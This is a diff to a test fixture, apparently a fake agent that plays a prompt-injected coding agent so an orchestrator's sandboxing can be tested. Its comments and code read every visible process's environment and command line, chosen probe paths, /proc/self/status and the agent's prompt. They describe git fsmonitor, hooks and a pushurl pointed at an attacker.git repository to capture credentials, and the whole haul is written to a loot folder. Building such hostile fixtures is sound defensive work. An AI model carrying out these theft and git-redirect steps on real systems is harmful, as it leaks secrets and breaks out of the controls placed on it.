@@ -3,6 +3,7 @@
 // fake-agent.mjs, and on every invocation tries to steal what a prompt-injected agent would:
 //   - its own environment, /proc/$PPID/environ and every /proc/*/environ and cmdline it can see;
 //   - the paths in HOSTILE_PROBES (JSON array): DATA_DIR, the orchestrator's checkout, HOME…;
+//   - its prompt, which holds whatever the session read for it (a WORKFLOW.md that is a link);
 //   - .git/config: core.fsmonitor and core.hooksPath set to scripts that dump their environment
 //     and /proc, hooks in .git/hooks, and remote.origin.pushurl / url.insteadOf pointed at a bare
 //     repository of its own (HOSTILE_LOOT/attacker.git), so a push with a credential lands there;
@@ -32,12 +33,21 @@ const read = (path) => {
 };
 
 /** Everything of every process it can see, and the probes. */
-const collected = { env: process.env, ppid: process.ppid, parentEnviron: read(`/proc/${process.ppid}/environ`), proc: {} };
+const collected = {
+  env: process.env,
+  ppid: process.ppid,
+  parentEnviron: read(`/proc/${process.ppid}/environ`),
+  // Its capabilities: with CAP_SYS_ADMIN it would remount what it is shown read-only writable.
+  status: read('/proc/self/status'),
+  proc: {},
+};
 for (const pid of readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
   collected.proc[pid] = { environ: read(`/proc/${pid}/environ`), cmdline: read(`/proc/${pid}/cmdline`) };
 }
 for (const path of JSON.parse(process.env.HOSTILE_PROBES ?? '[]')) collected[`probe:${path}`] = read(path);
 writeFileSync(join(loot, `agent-${stamp}.json`), JSON.stringify(collected));
+// Its prompt too: whatever the session put there (a WORKFLOW.md it read) the agent can send anywhere.
+writeFileSync(join(loot, `prompt-${stamp}.txt`), prompt);
 
 /** The same theft, as a shell script for git and the verify script to run. */
 const dumpScript = `#!/bin/sh
